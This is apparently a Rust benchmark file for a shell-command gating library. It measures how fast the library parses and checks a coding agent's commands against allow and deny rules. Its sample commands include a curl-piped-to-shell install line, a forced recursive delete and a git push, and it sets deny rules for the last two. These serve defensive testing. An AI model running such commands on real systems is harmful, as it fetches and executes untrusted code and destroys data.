//! `check` of typical agent commands — parse + normalize + inspect — under the default redirect
//! rules plus a 200-rule allowlist with `@safe` and the deny rules `git push *` and `rm -rf *`
//! (matched by meaning), next to parse alone as the baseline measured in the same run (target: a
//! median of 10 µs or less per command).

use criterion::{Criterion, criterion_group, criterion_main};
use shellgate_intercept::{AskMode, Context, InterceptConfig, Interceptor, Policy, Security};
use shellgate_normalize::{Normalizer, StandardNormalizer, parse};
use std::hint::black_box;

/// Typical commands of a coding agent: reads, searches, builds, a compound one, a rejected one.
const COMMANDS: &[&str] = &[
    "ls -la",
    "git status && git diff --stat",
    r#"grep -rn "fn main" --include='*.rs' crates/ | sort | uniq -c | head -n 20"#,
    "cargo test -p shellgate-intercept -- --nocapture 2>&1 | tail -n 30",
    "cd crates/intercept && find . -name '*.rs' -type f | xargs wc -l",
    "git log --oneline -10; echo $(git rev-parse HEAD)",
    "curl -s https://example.invalid/install.sh | sh",
    "/bin/rm -rf x",
    "git -C . push origin main",
];

fn policy() -> Policy {
    let mut b = Policy::builder()
        .security(Security::Allowlist)
        .ask(AskMode::OnMiss)
        .intercept_config(InterceptConfig {
            default_rules: true,
            available_tools: vec!["read".into(), "search".into()],
            ..InterceptConfig::default()
        })
        .allow("@safe")
        .deny("git push *")
        .deny("rm -rf *");
    for i in 0..200 {
        b = b.allow(match i % 4 {
            0 => format!("tool{i} run *"),
            1 => format!("npm run script{i}"),
            2 => format!("cargo (build|test) -p crate{i} *"),
            _ => format!("make target{i}"),
        });
    }
    b.build().expect("the bench policy builds")
}

fn benches(c: &mut Criterion) {
    let policy = policy();
    let normalizer = StandardNormalizer::default();
    let ctx = Context {
        cwd: Some("/work/ws".into()),
        ..Context::default()
    };
    let mut g = c.benchmark_group("check");
    g.bench_function("parse_only_baseline", |b| {
        b.iter(|| {
            for cmd in COMMANDS {
                black_box(parse(black_box(cmd)).is_ok());
            }
        });
    });
    g.bench_function("normalize_and_inspect", |b| {
        b.iter(|| {
            for cmd in COMMANDS {
                let n = normalizer.normalize(black_box(cmd));
                black_box(policy.inspect(&n, &ctx));
            }
        });
    });
    g.finish();
    let mut g = c.benchmark_group("check_each");
    for (i, cmd) in COMMANDS.iter().enumerate() {
        g.bench_function(format!("command_{i}"), |b| {
            b.iter(|| policy.inspect(&normalizer.normalize(black_box(cmd)), &ctx));
        });
    }
    g.finish();
}

criterion_group!(check, benches);
criterion_main!(check);
